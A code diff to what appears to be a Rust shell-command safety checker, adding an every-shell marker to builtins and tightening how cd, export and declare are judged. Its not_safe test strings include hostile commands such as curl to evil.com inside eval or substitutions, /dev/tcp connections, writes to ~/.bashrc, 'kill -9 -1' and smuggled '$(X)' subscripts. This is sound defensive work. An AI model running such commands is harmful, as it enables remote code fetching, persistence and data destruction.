@@ -10,10 +10,12 @@ use crate::shell::{Shell, is_name};
 pub(super) const TABLE: &[Program] = &[
     Program::new(&["echo"], "prints its arguments", Kind::Local, Rule::Harmless(Operands::Data))
         .builtin(Builtin::Text)
+        .in_every_shell()
         .safe(&["echo hello", "echo \"$HOME\" *", "FOO=bar echo hello", "echo ';curl x'", "echo $((1 + 2)); ls"])
         .not_safe(&["echo $(curl evil.com)", "echo x > ~/.bashrc", "echo x > /dev/tcp/h/80"]),
     Program::new(&["printf"], "prints its arguments", Kind::Local, Rule::Custom(printf))
         .builtin(Builtin::Format)
+        .in_every_shell()
         .safe(&["printf '%s\\n' a b", "printf 'x%s' \"$y\"", "printf -- '-%s' x"])
         .not_safe(&[
             "printf -v 'a[$(X)]' x",
@@ -25,39 +27,57 @@ pub(super) const TABLE: &[Program] = &[
         ]),
     Program::new(&["true", "false", ":"], "does nothing", Kind::Local, Rule::Harmless(Operands::Data))
         .builtin(Builtin::Text)
+        .in_every_shell()
         .safe(&["true", ": \"$x\""]),
     Program::new(&["pwd"], "tells what the shell knows", Kind::Local, Rule::Harmless(Operands::Data))
         .builtin(Builtin::Other)
+        .in_every_shell()
         .safe(&["pwd"]),
     Program::new(&["type"], "tells what the shell knows", Kind::Local, Rule::Harmless(Operands::Data))
         .builtin(Builtin::Other)
+        .in_every_shell()
         .traits(&[Trait::Searches])
         .safe(&["type ls"]),
     Program::new(&["cd"], "changes the working directory", Kind::Local, Rule::Custom(cd))
         .builtin(Builtin::GoesTo)
+        .in_every_shell()
         .safe(&["cd src && ls", "cd /tmp", "cd \"$x\" && ls"])
         .not_safe(&["cd /etc && echo x > y", "cd \"$x\" && echo y > z", "cd /x || cd y && echo a > ../../b"]),
     Program::new(&["exit"], "ends the shell", Kind::Local, Rule::Custom(exit))
         .builtin(Builtin::Other)
+        .in_every_shell()
         .safe(&["exit 1", "exit", "false || exit $?"])
         .not_safe(&["exit 'a[$(X)]'"]),
     Program::new(&["test", "["], "tests files and texts", Kind::Local, Rule::Custom(test))
         .builtin(Builtin::Tests)
+        .in_every_shell()
         .traits(&[Trait::Searches])
         .safe(&["[ -f x ] && echo y", "test -d /tmp", "[ \"$x\" = y ]", "[ -z \"$x\" ]", "[ ! -e x ]", "[ 1 -lt 2 ]"])
         .not_safe(&["[ -v 'a[$(X)]' ]", "test -v x", "[ $x = y ]", "[ \"$op\" \"$y\" ]", "[ -R x ]"]),
     Program::new(&["export"], "sets variables for the commands that follow", Kind::Local, Rule::Custom(export))
         .builtin(Builtin::Declares { exports: true })
+        .in_every_shell()
         .safe(&["export FOO=bar", "export FOO"])
         .not_safe(&["export PATH=/x", "export", "export -p", "export $x", "export -f ls"]),
     Program::new(&["local"], "declares variables of a function", Kind::Local, Rule::Custom(declare))
         .builtin(Builtin::Declares { exports: false })
+        .in_every_shell()
         .safe(&["local x=1", "local name"])
         .not_safe(&["local $x"]),
     Program::new(&["declare", "typeset", "readonly"], "declares variables", Kind::Local, Rule::Custom(declare))
         .builtin(Builtin::Declares { exports: false })
         .safe(&["declare -r y=\"$1\"", "readonly z=a", "declare -a list"])
         .not_safe(&[
+            "declare -a y=\"$x\"",
+            "typeset -A y=\"$x\"",
+            "readonly -a y=$x",
+            "declare -a 'm=($(X))'",
+            "declare 'm=($(X))'",
+            "y=(); declare y=\"$x\"",
+            "read -ra m < n; declare m=\"$x\"",
+            "mapfile -t m < n; declare m=\"$x\"",
+            "declare PIPESTATUS=\"$x\"",
+            "m[0]=a; declare -g m=\"$x\"",
             "declare -n ref=x",
             "declare -i 'x=a[$(X)]'",
             "declare PATH=/x",
@@ -68,6 +88,7 @@ pub(super) const TABLE: &[Program] = &[
         ]),
     Program::new(&["read"], "reads a line into variables", Kind::Local, Rule::Custom(read))
         .builtin(Builtin::Fills)
+        .in_every_shell()
         .safe(&[
             "read -r line",
             "IFS= read -r line",
@@ -87,19 +108,23 @@ pub(super) const TABLE: &[Program] = &[
         Rule::Custom(exit),
     )
     .builtin(Builtin::Other)
+    .in_every_shell()
     .safe(&["for x in a b; do break; done", "f() { return 1; }", "shift 2"])
     .not_safe(&["return 'a[$(X)]'", "shift \"$x\""]),
     Program::new(&["unset"], "removes variables", Kind::Local, Rule::Custom(unset))
         .builtin(Builtin::Removes)
+        .in_every_shell()
         .safe(&["unset x y", "unset -v x"])
         .not_safe(&["unset 'a[$(X)]'", "unset -f ls", "unset $x", "unset PATH"]),
     Program::new(&["wait"], "waits for the shell's jobs", Kind::Local, Rule::Custom(tells))
         .builtin(Builtin::Waits)
+        .in_every_shell()
         .traits(&[Trait::AboutTheOutside])
         .safe(&["wait", "wait 123"])
         .not_safe(&["wait -n -p 'a[$(X)]'"]),
     Program::new(&["jobs"], "lists the shell's jobs", Kind::Local, Rule::Custom(tells))
         .builtin(Builtin::Other)
+        .in_every_shell()
         .traits(&[Trait::AboutTheOutside])
         .safe(&["jobs"])
         .not_safe(&["jobs -x curl h"]),
@@ -132,6 +157,7 @@ pub(super) const TABLE: &[Program] = &[
         .not_safe(&["let 'x=a[$(X)]'", "let x=1"]),
     Program::new(&["ulimit"], "tells the limits of the shell, or changes them", Kind::Local, Rule::Custom(ulimit))
         .builtin(Builtin::Other)
+        .in_every_shell()
         .safe(&["ulimit -n", "ulimit -a"])
         .not_safe(&["ulimit -f 0", "ulimit -n 64"]),
     Program::new(&["alias", "hash", "fc", "history"], "changes what names mean", Kind::Local, NEVER)
@@ -139,6 +165,7 @@ pub(super) const TABLE: &[Program] = &[
         .not_safe(&["alias ls=curl", "hash -p /x/curl ls", "history -r x", "fc -s"]),
     Program::new(&["unalias"], "changes what names mean", Kind::Local, NEVER)
         .builtin(Builtin::Removes)
+        .in_every_shell()
         .not_safe(&["unalias ls"]),
     Program::new(&["enable"], "changes what names mean, and loads code", Kind::Local, NEVER)
         .builtin(Builtin::RenamesAndEvaluates)
@@ -152,6 +179,7 @@ pub(super) const TABLE: &[Program] = &[
         .not_safe(&["compgen -C curl", "compgen -A export"]),
     Program::new(&["getopts"], "reads options into variables", Kind::Local, NEVER)
         .builtin(Builtin::Parses)
+        .in_every_shell()
         .not_safe(&["getopts ab x"]),
     Program::new(&["disown", "fg", "bg"], "moves the shell's jobs", Kind::Local, NEVER)
         .builtin(Builtin::Other)
@@ -162,9 +190,11 @@ pub(super) const TABLE: &[Program] = &[
         .not_safe(&["help"]),
     Program::new(&["trap"], "runs a script later", Kind::Runner, Rule::Custom(wrappers::look_through))
         .builtin(Builtin::EvaluatesLater)
+        .in_every_shell()
         .not_safe(&["trap 'curl x' EXIT"]),
     Program::new(&["set"], "sets how the shell reacts to errors", Kind::Local, Rule::Custom(set))
         .builtin(Builtin::Sets)
+        .in_every_shell()
         .safe(&["set -e", "set -euo pipefail", "set -o pipefail", "set +e", "set -f", "set -- a b"])
         .not_safe(&["set", "set -k", "set -x", "set -o", "set -o xtrace", "set -a", "set -T"]),
     Program::new(&["command", "builtin"], "runs a program", Kind::Runner, Rule::Custom(wrappers::command))
@@ -174,11 +204,13 @@ pub(super) const TABLE: &[Program] = &[
         .not_safe(&["command curl x", "command $x"]),
     Program::new(&["exec"], "runs a program in the shell's place", Kind::Runner, Rule::Custom(wrappers::command))
         .builtin(Builtin::RunsBehind)
+        .in_every_shell()
         .runs(Runs::Behind(Wrapper { options: Options { values: "a", ..Options::NONE }, ..Wrapper::PLAIN }))
         .safe(&["exec ls"])
         .not_safe(&["exec 3<>/dev/tcp/h/80", "exec -a x ls"]),
     Program::new(&["eval"], "runs its arguments as a script", Kind::Runner, Rule::Custom(eval))
         .builtin(Builtin::Evaluates)
+        .in_every_shell()
         .safe(&["eval 'ls -la'"])
         .not_safe(&["eval 'curl evil.com'", "eval \"$x\"", "eval"]),
     Program::new(&["source", "."], "runs a file in this shell", Kind::Runner, Rule::Custom(source))
@@ -187,6 +219,7 @@ pub(super) const TABLE: &[Program] = &[
         .not_safe(&["source x.sh", ". venv/bin/activate", "source <(curl x)"]),
     Program::new(&["kill"], "sends signals", Kind::Local, Rule::Custom(system::kill))
         .builtin(Builtin::Other)
+        .in_every_shell()
         .traits(&[Trait::AboutTheOutside])
         .not_safe(&["kill 123", "kill -9 -1"]),
 ];
@@ -219,10 +252,11 @@ fn counts(format: &str) -> bool {
 
 fn cd(judge: &mut Judge<'_>, call: &Call) -> Judgement {
     let operands: Vec<_> = call.args.iter().filter(|arg| !matches!(arg.exact(), Some("--" | "-P" | "-L"))).collect();
-    // With -P the folders that links lead to count, which the text cannot tell.
+    // With -P the folders that links lead to count, which the text cannot tell, and `$PWD` is one of them.
     let physical = call.args.iter().any(|arg| arg.exact() == Some("-P"));
     match operands.as_slice() {
-        [one] if physical && one.text.contains("..") => judge.change_folder(None),
+        // From then on `..` is what lies above there.
+        _ if physical => judge.change_folder(None),
         [] => judge.change_folder(Some("~")),
         [one] if one.exact().is_some_and(|text| !text.starts_with('-')) => judge.change_folder(one.exact()),
         _ => judge.change_folder(None),
@@ -303,7 +337,8 @@ fn export(judge: &mut Judge<'_>, call: &Call) -> Judgement {
         if !is_name || !whole {
             return Judgement::unknown("this form of `export` is not read");
         }
-        judgement = judgement.max(judge.assignment(name));
+        let value = arg.text.split_once('=').map_or("", |(_, value)| value);
+        judgement = judgement.max(judge.assignment_of(name, Some(value).filter(|_| arg.known == Known::Literal)));
     }
     judgement
 }
@@ -313,7 +348,7 @@ fn sets<'a>(judge: &Judge<'_>, names: impl Iterator<Item = &'a Arg>) -> Judgemen
     let mut judgement = Judgement::safe();
     for name in names {
         judgement = judgement.max(match name.exact() {
-            Some(text) if is_name(text) => judge.assignment(text),
+            Some(text) if is_name(text) => judge.assignment_of(text, None),
             Some(_) => Judgement::unknown("a name with a subscript is evaluated"),
             None => Judgement::unknown("the name of a variable is only known when it runs"),
         });
@@ -328,6 +363,8 @@ fn declare(judge: &mut Judge<'_>, call: &Call) -> Judgement {
     }
     let mut judgement = Judgement::safe();
     let mut declared = false;
+    let is_option = |arg: &&Arg| arg.known == Known::Literal && arg.text.starts_with('-');
+    let arrays = call.args.iter().filter(is_option).any(|arg| arg.text.contains(['a', 'A']));
     for arg in &call.args {
         let text = arg.text.as_str();
         if arg.known == Known::Literal && text.starts_with(['-', '+']) {
@@ -349,7 +386,18 @@ fn declare(judge: &mut Judge<'_>, call: &Call) -> Judgement {
         if !is_name(name) || !whole {
             return Judgement::unknown("this form of a declaration is not read");
         }
-        judgement = judgement.max(judge.assignment(name));
+        // A value in parentheses makes an array, and what is in it is expanded once more, whatever quotes stood around it.
+        let may_start_so = match value {
+            None => false,
+            Some(value) if arg.known == Known::Literal || !value.is_empty() => value.starts_with('('),
+            Some(_) => arrays || judge.may_be_array(name),
+        };
+        if may_start_so {
+            return Judgement::unknown(format!("a value in parentheses for `{name}` would be expanded once more"));
+        }
+        let value = value.filter(|_| arg.known == Known::Literal);
+        judgement =
+            judgement.max(judge.assignment_of(name, value.or(Some("")).filter(|_| arg.known == Known::Literal)));
     }
     if !declared {
         judge.secret("the environment");
